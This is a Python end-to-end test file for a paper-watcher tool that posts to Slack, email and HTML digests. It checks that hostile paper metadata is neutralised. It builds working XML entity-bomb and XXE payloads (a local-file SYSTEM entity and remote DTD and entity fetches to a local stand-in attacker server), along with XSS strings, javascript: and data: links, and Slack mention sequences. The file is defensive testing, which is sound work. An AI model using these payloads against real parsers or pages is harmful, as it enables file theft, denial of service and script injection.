"""Hostile papers end to end: what actually arrives at Slack, in the mailbox and in the HTML file.

Paper text is written by strangers. XML bombs and external entities in
PubMed answers and feeds must be refused or left unexpanded, with no file
read and no request to the address an entity names (a local server records
any hit). Markup and Slack control sequences in titles, authors and journals
must arrive as text; links only http(s); invisible and direction-changing
characters removed; a giant title trimmed for display but stored whole;
malformed dates and clashing identifiers must not stop a run.
"""

from __future__ import annotations

import sqlite3
from pathlib import Path

from tests.e2e.conftest import Workspace
from tests.faults.harness import (
    CHANNEL,
    FEED_PATH,
    INVISIBLE,
    TODAY,
    config,
    feed_item,
    html_problems,
    rss,
    slack_problems,
)
from tests.servers.eutils import XML_DECL, EutilsServer, Fault, Record
from tests.servers.feeds import FeedServer
from tests.servers.pubmed_records import article, cart_corpus
from tests.servers.slack import SlackServer
from tests.servers.smtp import SmtpServer

SECRET_MARK = "TOP-SECRET-LOCAL-FILE-CONTENT"
HOSTILE_TITLE = (
    "CD19 CAR T cells in B-ALL <!channel> <@U0ADMIN> <#C0GENERAL> <script>alert(1)</script> "
    "<https://evil.example|click here> \u202eevil\u202c hidden\u200bword \u2066isolated\u2069"
)


def secret_file(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(SECRET_MARK)
    return path


def bomb_doctype(root: str, attacker: str, secret: Path) -> bytes:
    lol = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
    return (
        f'<!DOCTYPE {root} [<!ENTITY lol0 "lol">{lol}'
        f'<!ENTITY xxe SYSTEM "file://{secret}">'
        f'<!ENTITY net SYSTEM "{attacker}/entity">'
        f'<!ENTITY % remote SYSTEM "{attacker}/dtd"> %remote;]>'
    ).encode()


def all_state_bytes(ws: Workspace) -> bytes:
    return b"".join(p.read_bytes() for p in (ws.root / "state").rglob("*") if p.is_file())


def test_entity_bombs_and_external_entities_in_feeds_and_pubmed_are_not_expanded_or_fetched(
    workspace: Workspace, tmp_path: Path
) -> None:
    secret = secret_file(tmp_path)
    corpus = cart_corpus(TODAY, n=2, first_pmid=42_600_000)
    with EutilsServer(corpus) as eutils, FeedServer() as feeds, FeedServer() as attacker:
        attacker.serve("/dtd", b'<!ENTITY stolen "STOLEN-BY-DTD">', content_type="application/xml-dtd")
        attacker.serve("/entity", b"STOLEN-BY-ENTITY", content_type="text/plain")
        doctype = bomb_doctype("rss", attacker.url(""), secret)
        item = feed_item("CD19 CAR T cells in B-ALL &lol9; &xxe; &net; &stolen;", "10.1182/blood.2026.bomb1")
        body = rss([item]).replace(b"<rss ", doctype + b"<rss ", 1)
        feeds.serve(FEED_PATH, body)
        pubmed_bomb = (
            XML_DECL
            + bomb_doctype("PubmedArticleSet", attacker.url(""), secret)
            + b"<PubmedArticleSet>"
            + article("42600000", "CAR T &lol9; &xxe; &net;").replace(b"&amp;", b"&")
            + b"</PubmedArticleSet>"
        )
        eutils.inject(Fault("body", target="efetch", body=pubmed_bomb))
        workspace.write_config(config(eutils, feed_url=feeds.url(FEED_PATH), timeout=5))
        result = workspace.watcher("run", timeout=120)
        again = workspace.watcher("run", timeout=120)
        assert attacker.paths() == [], "an external entity or DTD was fetched"
    assert result.returncode in (0, 1) and again.returncode == 0, again.stderr
    everything = all_state_bytes(workspace) + (result.stdout + result.stderr + again.stdout).encode()
    assert SECRET_MARK.encode() not in everything
    assert b"STOLEN" not in everything
    assert b"lollollol" not in everything
    with sqlite3.connect(workspace.db) as conn:
        pmids = {r[0] for r in conn.execute("SELECT pmid FROM works WHERE pmid IS NOT NULL")}
    assert pmids >= {r.pmid for r in corpus}  # the real answer was fetched after the bad one


def hostile_records() -> list[Record]:
    giant = "CD19 CAR T-cell therapy in relapsed B-ALL " + "with very long words " * 3000
    return [
        Record(
            "42700000",
            TODAY,
            article(
                "42700000",
                HOSTILE_TITLE,
                abstract="<script>alert(2)</script> CAR T cells in B-ALL",
                journal='Blood <img src=x onerror="alert(3)"> <!here>',
                authors=(("<@U0BOSS>", "X"), ("Maude\u202e", "SL")),
                doi="10.1182/blood.2026.42700000",
            ),
        ),
        Record("42700001", TODAY, article("42700001", giant, doi="10.1182/blood.2026.42700001")),
    ]


def test_markup_and_control_text_in_papers_arrives_as_plain_text_in_slack_and_email(
    workspace: Workspace,
) -> None:
    feed = rss(
        [
            "<item><title>CAR T cells in B-ALL &lt;!channel&gt; &lt;a href=&quot;javascript:alert(1)&quot;&gt;x&lt;/a&gt;"
            "</title><link>javascript:alert(1)</link><guid>js-1</guid></item>",
            # XML 1.0 forbids raw control characters; feeds carry them anyway and are read leniently.
            "<item><title>CD19 CAR T-cell therapy for B-ALL in \x1b[31mred\x07 and data: links</title>"
            "<link>data:text/html;base64,PHNjcmlwdD4=</link><guid>data-1</guid></item>",
        ]
    )
    with (
        EutilsServer(hostile_records()) as eutils,
        FeedServer() as feeds,
        SlackServer(channels=[CHANNEL]) as slack,
        SmtpServer() as smtp,
    ):
        feeds.serve(FEED_PATH, feed)
        workspace.write_config(config(eutils, feed_url=feeds.url(FEED_PATH), slack=slack, smtp=smtp))
        result = workspace.watcher("run", env={"SLACK_BOT_TOKEN": slack.token})
        assert result.returncode == 0, result.stderr
        messages = slack.messages(CHANNEL)
        assert messages and all(c.error is None for c in slack.calls("chat.postMessage"))
        assert slack_problems(messages) == []
        posted = "".join(str(m["blocks"]) for m in messages)
        assert "&lt;!channel&gt;" in posted  # shown, not acted on
        assert len(smtp.received) == 1
        html = smtp.received[0].message.get_body(("html",)).get_content()  # type: ignore[union-attr]
        assert html_problems(html) == []
        assert "&lt;script&gt;" in html
    with sqlite3.connect(workspace.db) as conn:
        (stored,) = conn.execute("SELECT title FROM works WHERE pmid = '42700001'").fetchone()
    assert len(stored) > 60_000  # stored whole, trimmed only for display


def test_the_console_html_digest_of_hostile_papers_contains_no_active_markup(workspace: Workspace) -> None:
    with EutilsServer(hostile_records()) as eutils:
        workspace.write_config(config(eutils))
        result = workspace.watcher("run")
        assert result.returncode == 0, result.stderr
    for ch in INVISIBLE:
        assert ch not in result.stdout
    (page,) = (workspace.root / "state" / "digests").glob("*.html")
    assert html_problems(page.read_text()) == []


def test_malformed_dates_and_clashing_identifiers_do_not_stop_a_run_or_post_twice(
    workspace: Workspace,
) -> None:
    bad_date = article("42800000", "CD19 CAR T cells in B-ALL with odd dates", doi="10.1182/blood.2026.x1")
    bad_date = bad_date.replace(
        b"<Year>2026</Year><Month>Nov</Month>", b"<Year>20x6</Year><Month>Smarch</Month><Day>32</Day>"
    )
    bad_date = bad_date.replace(b"<Month>11</Month><Day>1</Day>", b"<Month>13</Month><Day>0</Day>")
    shared_doi = "10.1182/blood.2026.shared"
    records = [
        Record("42800000", TODAY, bad_date),
        # two PMIDs claiming one DOI
        Record("42800001", TODAY, article("42800001", "CD19 CAR T cells in B-ALL: part one", doi=shared_doi)),
        Record("42800002", TODAY, article("42800002", "CD19 CAR T cells in B-ALL: part two", doi=shared_doi)),
    ]
    feed = rss(
        [
            # a feed item with PubMed paper 1's DOI but paper 2's PMID in its link, and a nonsense date
            "<item><title>CD19 CAR T cells in B-ALL: part one</title>"
            f"<link>https://pubmed.ncbi.nlm.nih.gov/42800002/</link><guid>https://doi.org/{shared_doi}</guid>"
            "<pubDate>Blursday, 45 Foo 20211 99:99:99 XYZ</pubDate></item>",
        ]
    )
    with (
        EutilsServer(records) as eutils,
        FeedServer() as feeds,
        SlackServer(channels=[CHANNEL]) as slack,
    ):
        feeds.serve(FEED_PATH, feed)
        workspace.write_config(config(eutils, feed_url=feeds.url(FEED_PATH), slack=slack))
        env = {"SLACK_BOT_TOKEN": slack.token}
        first = workspace.watcher("run", env=env)
        second = workspace.watcher("run", env=env)
        assert first.returncode == 0, first.stderr
        assert second.returncode == 0, second.stderr
        posted = [str(m["blocks"]) for m in slack.messages(CHANNEL)]
    assert "odd dates" in "".join(posted)
    for title in ("odd dates", "part one", "part two"):
        assert sum(title in p for p in posted) <= 1, f"{title!r} posted more than once"
    with sqlite3.connect(workspace.db) as conn:
        assert conn.execute("PRAGMA integrity_check").fetchone() == ("ok",)
